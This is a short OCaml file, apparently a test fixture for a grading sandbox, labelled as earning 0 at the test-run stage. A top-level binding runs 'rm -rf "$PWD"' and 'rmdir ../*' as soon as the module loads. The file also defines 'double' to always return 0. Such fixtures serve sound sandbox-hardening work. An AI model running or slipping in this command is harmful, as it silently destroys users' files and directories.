(* Takes the ground from under its feet.
   stages: tests run
   earns: 0 *)
let () = ignore (Sys.command "rm -rf \"$PWD\" 2>/dev/null; rmdir ../* 2>/dev/null")
let double _ = 0
